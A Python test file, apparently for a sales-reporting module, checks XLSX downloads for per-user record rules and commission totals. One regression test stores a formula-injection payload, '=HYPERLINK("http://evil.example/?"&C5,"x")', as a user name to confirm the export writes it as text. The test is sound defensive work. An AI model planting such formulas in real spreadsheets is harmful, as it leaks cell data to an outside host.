"""The XLSX downloads as a logged-in user gets them over HTTP (A4, E3)."""

import xlrd

from serverlib import session


def workbook_rows(opener, url):
    with opener.open(url) as response:
        assert response.status == 200
        assert 'spreadsheetml' in response.headers['Content-Type']
        sheet = xlrd.open_workbook(file_contents=response.read()).sheet_by_index(0)
        return [sheet.row_values(r) for r in range(sheet.nrows)]


def test_plan_completion_xlsx_follows_record_rules(server):
    admin = server.login('admin', 'admin')
    plan = admin('ir.model.data', 'xmlid_to_res_id', 'sales_mis.demo_plan_year')
    names = dict((u['login'], u['name']) for u in admin('res.users', 'search_read',
                                                         [('login', 'in', ['salesperson', 'manager'])],
                                                         fields=['login', 'name']))
    url = '%s/sales_mis/plan/%d/completion.xlsx' % (server.url, plan)
    director = workbook_rows(session(server, 'director'), url)
    assert any(names['salesperson'] in row for row in director)
    assert any(names['manager'] in row for row in director)
    own = workbook_rows(session(server, 'salesperson'), url)
    assert any(names['salesperson'] in row for row in own)
    assert not any(names['manager'] in row for row in own), 'a salesperson sees only their own row'
    header = own[1]
    assert header[:7] == ['销售团队', '销售员', '目标', '实际', '完成率', '差额', '预计完成'] or \
        header[:7] == ['Sales Team', 'Salesperson', 'Target', 'Actual', 'Completion', 'Gap', 'Projection']


def test_commission_xlsx_of_the_demo_statements(server):
    manager = server.login('manager')
    ids = manager('sales_mis.commission.statement', 'search', [])
    assert ids, 'the demo computes the East China statements'
    rows = workbook_rows(session(server, 'manager'), '%s/sales_mis/commission/statements.xlsx?ids=%s'
                         % (server.url, ','.join(map(str, ids))))
    total = manager('sales_mis.commission.statement', 'read', ids, ['amount_total'])
    assert abs(rows[-1][7] - sum(s['amount_total'] for s in total)) < 0.01


def test_a_name_that_looks_like_a_formula_downloads_as_text(server):
    """Issue 12: a salesperson called like a formula is a text cell of the completion XLSX."""
    import io
    import openpyxl
    admin = server.login('admin', 'admin')
    plan = admin('ir.model.data', 'xmlid_to_res_id', 'sales_mis.demo_plan_year')
    user = admin('res.users', 'search_read', [('login', '=', 'salesperson')], fields=['name'])[0]
    formula = '=HYPERLINK("http://evil.example/?"&C5,"x")'
    admin('res.users', 'write', [user['id']], {'name': formula})
    try:
        with session(server, 'director').open('%s/sales_mis/plan/%d/completion.xlsx' % (server.url, plan)) as response:
            book = openpyxl.load_workbook(io.BytesIO(response.read()))
    finally:
        admin('res.users', 'write', [user['id']], {'name': user['name']})
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.value == formula] == ['s']
    assert not [cell for cell in cells if cell.data_type == 'f']
